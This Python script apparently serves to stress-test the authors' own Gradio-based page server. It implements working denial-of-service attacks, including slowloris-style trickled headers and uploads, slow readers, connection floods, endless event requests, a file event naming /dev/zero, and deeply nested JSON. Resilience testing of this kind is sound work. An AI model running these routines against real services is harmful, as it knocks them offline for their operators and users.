"""One client's attacks on the page: `python page_attacks.py ATTACK HOST PORT SECONDS`."""

import contextlib
import json
import pathlib
import socket
import sys
import threading
import time

from page_server import Visitor

STRIP = pathlib.Path(__file__).parents[2] / "weights" / "scenes" / "ten-digits.png"
KEPT = []  # sockets that stay open


def connect(host, port):
    one = socket.create_connection((host, port), timeout=5)
    KEPT.append(one)
    return one


def send(one, data):
    with contextlib.suppress(OSError):
        one.sendall(data)


def head(host, port, first, **headers):
    lines = [first, f"Host: {host}:{port}", *(f"{name.replace('_', '-')}: {value}" for name, value in headers.items())]
    return "\r\n".join([*lines, "", ""]).encode()


def repeated(clients, seconds, job):
    """Do a job again and again in so many threads; what the server refuses does not stop them."""
    end = time.monotonic() + seconds

    def work():
        while time.monotonic() < end:
            with contextlib.suppress(OSError, AssertionError, ValueError, IndexError, KeyError, json.JSONDecodeError):
                job()

    threads = [threading.Thread(target=work, daemon=True) for _ in range(clients)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(0.1, end + 1 - time.monotonic()))


def trickle(host, port, seconds, clients, start):
    """Open connections that send one byte a second after their start."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            while len(KEPT) < clients:
                send(connect(host, port), start)
        for one in list(KEPT):
            try:
                one.sendall(b"a")
            except OSError:
                KEPT.remove(one)
        time.sleep(1)


def opened(host, port):
    visitor = Visitor(host, port, "mallory")
    visitor.open()
    return visitor


def slow_headers(host, port, seconds):
    trickle(host, port, seconds, 400, b"GET / HTTP/1.1\r\nX-")


def slow_bodies(host, port, seconds):
    cookie = opened(host, port).cookie
    lengths = {"Cookie": cookie, "Content_Length": 60000}
    trickle(host, port, seconds, 100, head(host, port, "POST /gradio_api/queue/join HTTP/1.1", **lengths))


def slow_uploads(host, port, seconds):
    lengths = {"Cookie": opened(host, port).cookie, "Content_Length": 2**24}
    kind = {"Content_Type": "multipart/form-data; boundary=X"}
    trickle(host, port, seconds, 100, head(host, port, "POST /gradio_api/upload HTTP/1.1", **lengths, **kind))


def slow_readers(host, port, seconds):
    asset = b"GET /static/js/iframeResizer.contentWindow.min.js HTTP/1.1\r\nHost: %s:%d\r\n\r\n"

    def job():
        one = connect(host, port)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
        send(one, 50 * (asset % (host.encode(), port)))
        if len(KEPT) > 400:
            KEPT.pop(0).close()
        time.sleep(0.02)

    repeated(4, seconds, job)


def silent_connections(host, port, seconds):
    def job():
        connect(host, port)
        if len(KEPT) > 900:
            for one in KEPT[:300]:
                one.close()
            del KEPT[:300]

    repeated(2, seconds, job)


def pages(host, port, seconds):
    asked = head(host, port, "GET / HTTP/1.1")
    local = threading.local()

    def job():
        try:
            if not getattr(local, "one", None):
                local.one = connect(host, port)
            local.one.sendall(asked)
            if not local.one.recv(2**17):
                local.one = None
        except OSError:
            local.one = None
            raise

    repeated(50, seconds, job)


def assets(host, port, seconds):
    visitor = Visitor(host, port)
    repeated(30, seconds, lambda: visitor.ask("GET", "/theme.css", headers={"Accept-Encoding": "br"}))


def streams(host, port, seconds):
    asked = head(host, port, "GET /gradio_api/heartbeat/a HTTP/1.1", Cookie=opened(host, port).cookie)

    def job():
        if len(KEPT) < 400:
            send(connect(host, port), asked)
        time.sleep(0.005)

    repeated(2, seconds, job)


def events(host, port, seconds):
    visitor = opened(host, port)
    visitor.choose_sample(0)
    values = ["scene-digits", "", 32, [0.75, 1.0, 1.5], 0.5]
    repeated(8, seconds, lambda: visitor.join(visitor.function(5), values))


def redraws(host, port, seconds):
    visitor = opened(host, port)
    visitor.choose_sample(0)
    visitor.evaluate()
    repeated(8, seconds, lambda: visitor.join(visitor.function(2), ["2", 0.5]))


def drawings(host, port, seconds):
    visitor = opened(host, port)
    visitor.choose_sample(0)
    drawn = visitor.evaluate()[5]["url"]
    repeated(20, seconds, lambda: visitor.ask("GET", "/" + drawn.replace("heatmap.jpg", "heatmap.png")))


def uploads(host, port, seconds):
    visitor, content = opened(host, port), bytes(2**21)
    repeated(8, seconds, lambda: visitor.upload("a.png", content))


def devices(host, port, seconds):
    visitor = opened(host, port)
    repeated(4, seconds, lambda: visitor.name_file({"path": "/dev/zero", "meta": {"_type": "gradio.FileData"}}))


def rubbish(host, port, seconds):
    visitor, body = opened(host, port), b"[" * 60000
    repeated(8, seconds, lambda: visitor.ask("POST", "/gradio_api/queue/join", body))


ATTACKS = {
    "none": lambda host, port, seconds: time.sleep(seconds),
    "pages asked for on 50 connections": pages,
    "style sheets asked for by 30 clients": assets,
    "400 connections that trickle headers": slow_headers,
    "100 events that trickle their bodies": slow_bodies,
    "100 uploads that trickle": slow_uploads,
    "connections that read no answer": slow_readers,
    "connections that ask for nothing": silent_connections,
    "400 streams of events": streams,
    "evaluations without end": events,
    "other classes without end": redraws,
    "drawings asked for by 20 clients": drawings,
    "uploads of 2 MiB by 8 clients": uploads,
    "events that name /dev/zero": devices,
    "events that are deeply nested JSON": rubbish,
}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
